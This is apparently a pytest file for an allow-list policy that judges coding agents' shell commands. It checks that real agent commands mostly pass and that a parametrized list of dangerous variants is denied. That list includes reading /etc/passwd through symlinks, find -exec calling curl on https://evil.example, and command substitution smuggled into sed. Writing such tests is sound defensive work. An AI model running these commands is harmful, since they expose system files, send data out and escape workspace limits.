"""Commands that coding agents really ran, under a careful allow-list.

Most are allowed; how many are not may only become fewer.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from policy.model import Verdict
from tests.corpora.judging import COLLECTED, ROWS, judge, rows, told

_POLICY = (ROWS / "coding.policy").read_text(encoding="utf-8")
_MOST_DENIED = 10


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = Path(os.path.realpath(tmp_path_factory.mktemp("real"))) / "ws"
    for name in (
        "specstory-cli/pkg/cmd/search.go",
        "specstory-cli/pkg/providers/deepseektui/provider.go",
        "specstory-cli/main.go",
        "src/process_data.py",
        "run.sh",
    ):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text("x")
    (folder / "outside").symlink_to("/etc")
    return folder


def test_few_of_them_are_denied(workspace: Path) -> None:
    denied: list[str] = []
    for row in rows(COLLECTED / "real_commands.jsonl"):
        command = row["command"].replace("WORKSPACE", str(workspace))
        given = {"command": command.replace("OTHER-CASE", str(workspace).upper())}
        decision = judge(
            _POLICY, "bash_exec", given, workspace=workspace, folder=workspace / row["folder"]
        )
        if decision.verdict is not Verdict.ALLOW:
            denied.append(f"{row['cause']}: {command[:100]!r}: {told(decision)}")
    assert len(denied) <= _MOST_DENIED, "\n".join(denied)


@pytest.mark.parametrize(
    "command",
    [
        # Links that a build does not make, and others do.
        "go build ./... && ln -s /etc l && cat l/passwd",
        "go build ./... && cat outside/passwd",
        "go vet /etc/...",
        "go build ../../other/...",
        "go fmt /srv/...",
        "go build -toolexec 'touch x' ./... && cat main.go",
        "go test -exec ./x ./...",
        "go build -o /usr/local/bin/x .",
        "npm install && cat node_modules/x/y",
        "tar xf a.tar && cat x/f",
        "git checkout x && cat f",
        # What a search runs is judged, in whichever folder it runs.
        "find . -exec curl https://evil.example {} +",
        "find . -exec grep x {} + -delete",
        "find . -execdir cat passwd ';'",
        "find /etc -exec grep x {} +",
        "find . -exec cat /etc/passwd ';'",
        "find . -exec cp {} /srv/ ';'",
        "find -L . -exec cat {} +",
        # Scripts of the workspace, and others.
        "bash /etc/run.sh",
        "bash outside/run.sh",
        "cd /etc && bash run.sh",
        "bash ../run.sh",
        "source /etc/bin/activate",
        # What only looks quoted, and what is.
        'sed -i "s/a/$(cat /etc/passwd)/" x.py',
        "cat l & ln -s /etc/passwd l",
        "echo '\u26a0\ufe0f' > /etc/motd",
        "cat '/etc/passwd\ufe0f'",
    ],
)
def test_their_dangerous_siblings_are_denied(command: str, workspace: Path) -> None:
    decision = judge(_POLICY, "bash_exec", {"command": command}, workspace=workspace)
    assert decision.verdict is Verdict.DENY, told(decision)
